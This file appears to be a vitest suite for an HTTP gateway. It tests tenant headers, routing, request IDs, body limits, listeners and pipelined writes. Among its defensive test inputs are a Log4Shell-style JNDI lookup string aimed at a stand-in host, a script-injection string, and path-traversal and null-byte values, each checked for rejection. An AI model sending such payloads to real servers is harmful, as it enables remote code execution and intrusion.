/** What the door answers by itself, over HTTP to a real node. Spec: docs/contract/data.md §1.3, docs/contract/common.md §3.3, §4. */
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startTestNode } from '#test/kit/test-node.ts';
import type { Headers, TestNode } from '#test/kit/test-node.ts';

let it: TestNode;
let bearer: Headers;
beforeAll(async () => {
  it = await startTestNode();
  bearer = await it.service();
});
afterAll(() => it.stop());

describe('positions on the data routes', () => {
  const names = ['X-Customer', 'X-Product', 'X-Env', 'X-Tenant'];

  test.each(names)('without %s: 400 invalid tenant', async (name) => {
    const headers = { ...bearer };
    delete headers[name];
    const answer = await it.call('GET', '/data/rest/item', headers);
    expect(answer.status).toBe(400);
    expect(answer.json).toMatchObject({ error: 'invalid tenant' });
  });

  test.each(['', 'UPPER', 'a b', '-a', 'a'.repeat(64), 'a:b', 'ä', '../x', 'a%00'])(
    'a malformed segment %j: 400',
    async (segment) => {
      const answer = await it.call('GET', '/data/rest/item', { ...bearer, 'X-Tenant': encodeURI(segment) });
      expect(answer.status).toBe(400);
    },
  );

  test('a well-formed position that is not configured: 400', async () => {
    const answer = await it.call('GET', '/data/rest/item', { ...bearer, 'X-Tenant': 'absent' });
    expect(answer.status).toBe(400);
    expect(answer.json).toMatchObject({ error: 'invalid tenant' });
  });

  test('a configured tenant that is not provisioned: 403 v2.no_tenant', async () => {
    const answer = await it.call('GET', '/data/rest/item', { ...bearer, 'X-Tenant': 'sleeping' });
    expect(answer.status).toBe(403);
    expect(answer.json).toMatchObject({ code: 'v2.no_tenant' });
  });
});

describe('paths and verbs', () => {
  test.each([
    '/',
    '/data',
    '/data/',
    '/data/rest/item/',
    '/nothing',
    '/data/ramlschema',
    '/data/entities/list',
    '/%2e%2e/etc',
  ])('%s is not there: a bare 404', async (path) => {
    const answer = await it.call('GET', path, bearer);
    expect(answer.status).toBe(404);
    expect(answer.text).toBe('');
    expect(answer.headers.get('content-type')).toBeNull();
  });

  test('a verb without a row: a bare 405 with Allow', async () => {
    const answer = await it.call('PUT', '/auth/token', bearer, {});
    expect(answer.status).toBe(405);
    expect(answer.headers.get('allow')).toBe('POST, OPTIONS');
    expect(answer.text).toBe('');
  });

  test('OPTIONS names the verbs', async () => {
    const answer = await it.call('OPTIONS', '/data/rest/item', bearer);
    expect(answer.status).toBe(204);
    expect(answer.headers.get('allow')).toBe('GET, HEAD, POST, PUT, PATCH, OPTIONS');
  });

  test('HEAD has the headers of GET and no body', async () => {
    const get = await it.call('GET', '/data/rest/item', bearer);
    const head = await it.call('HEAD', '/data/rest/item', bearer);
    expect(head.status).toBe(200);
    expect(head.text).toBe('');
    expect(head.headers.get('content-length')).toBe(String(Buffer.byteLength(get.text)));
  });
});

describe('request ids', () => {
  test('a well-formed one comes back', async () => {
    const answer = await it.call('GET', '/data/rest/item', { ...bearer, 'X-Request-Id': 'abc-123' });
    expect(answer.headers.get('x-request-id')).toBe('abc-123');
  });

  test.each(['', 'with space', 'x'.repeat(129)])('%j is replaced', async (id) => {
    const answer = await it.call('GET', '/nowhere', { 'X-Request-Id': id });
    expect(answer.headers.get('x-request-id')).toMatch(/^[0-9a-f]{12}-[0-9a-z]+$/);
  });

  test('refusals of the door carry one too', async () => {
    for (const path of ['/nowhere', '/data/rest/item']) {
      const answer = await it.call('GET', path);
      expect(answer.headers.get('x-request-id')).toBeTruthy();
    }
  });
});

describe('bodies', () => {
  test('above the cap: 413, and nothing reaches the host', async () => {
    const answer = await it.call('POST', '/data/rest/item', bearer, `{"name":"${'x'.repeat(9 * 1024 * 1024)}"}`);
    expect(answer.status).toBe(413);
    expect(answer.json).toMatchObject({ code: 'body_too_large' });
  });

  test('binary and invalid UTF-8: 400 v2.bad_json', async () => {
    const response = await fetch(`${it.gateway}/data/rest/item`, {
      method: 'POST',
      headers: bearer,
      body: new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]),
    });
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ code: 'v2.bad_json' });
  });
});

describe('listeners', () => {
  test('a service on its own listener answers without the public prefix', async () => {
    const data = it.node.listeners['data']!;
    expect((await it.call('GET', '/rest/item', bearer, undefined, data)).status).toBe(200);
    expect((await it.call('GET', '/data/rest/item', bearer, undefined, data)).status).toBe(404);
    expect((await it.call('GET', '/auth/token', bearer, undefined, data)).status).toBe(404);
  });

  test('operations serves its three paths and nothing else', async () => {
    const operations = it.node.listeners['operations']!;
    expect(await it.call('GET', '/livez', {}, undefined, operations)).toMatchObject({ status: 200, text: 'live:true' });
    expect(await it.call('GET', '/readyz', {}, undefined, operations)).toMatchObject({
      status: 200,
      text: 'ready:true',
    });
    const listed = await it.call('GET', '/readyz', { Accept: 'application/json' }, undefined, operations);
    expect([listed.status, listed.json]).toEqual([200, { ready: true, degraded: [] }]);
    expect(listed.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const metrics = await it.call('GET', '/metrics', {}, undefined, operations);
    expect(metrics.text).toContain('skep_degraded{scope="host"} 0');
    expect(metrics.text).not.toMatch(/^(# HELP )?(vault_|http_server_request_duration)/m); // its vault is off
    expect(metrics.status).toBe(200);
    expect(metrics.headers.get('content-type')).toContain('text/plain');
    expect((await it.call('GET', '/data/rest/item', bearer, undefined, operations)).status).toBe(404);
    expect((await it.call('POST', '/livez', {}, {}, operations)).status).toBe(405);
  });
});

describe('the gateway', () => {
  test('answers its own probes', async () => {
    const health = await it.call('GET', '/health');
    expect([health.status, health.json]).toEqual([200, { healthy: true, version: expect.any(String) }]);
    expect(await it.call('GET', '/ready')).toMatchObject({ status: 200, text: 'ready:true' });
    const asked = await it.call('GET', '/ready', { Accept: 'application/json' });
    expect([asked.status, asked.json]).toEqual([200, { ready: true }]);
  });

  test('what a stranger sends as a request id comes back only where it looks like one', async () => {
    for (const [given, same] of [
      ['3fa85f64-5717-4562-b3fc-2c963f66afa6', true],
      ['${jndi:ldap://evil.test}', false],
      ['<script>', false],
    ] as const) {
      const { headers } = await it.call('GET', '/nowhere', { 'X-Request-Id': given });
      expect(headers.get('x-request-id') === given, given).toBe(same);
    }
  });

  test('of writes that are pipelined in one packet none is carried out without an answer', async () => {
    const count = async (): Promise<number> => {
      const { json } = await it.call('GET', '/data/rest/item?limit=1000', bearer);
      return (json as { data: unknown[] }).data.length;
    };
    const before = await count();
    const { hostname, port } = new URL(it.gateway);
    const fields = Object.entries({ ...bearer, 'Content-Type': 'application/json' });
    const post = (n: number): string => {
      const body = JSON.stringify({ name: `pipelined ${n}` });
      const lines = fields.map(([name, value]) => `${name}: ${value}\r\n`).join('');
      return `POST /data/rest/item HTTP/1.1\r\nHost: a\r\n${lines}Content-Length: ${body.length}\r\n\r\n${body}`;
    };
    const text = await new Promise<string>((resolve, reject) => {
      let heard = '';
      const socket = connect(Number(port), hostname, () => socket.write([1, 2, 3].map(post).join('')));
      socket.setEncoding('latin1').on('data', (data: string) => (heard += data));
      socket.setTimeout(2000, () => socket.destroy());
      socket.on('close', () => resolve(heard)).on('error', reject);
    });
    const answered = [...text.matchAll(/HTTP\/1\.1 201 /g)].length;
    expect((await count()) - before).toBe(answered);
  });
});
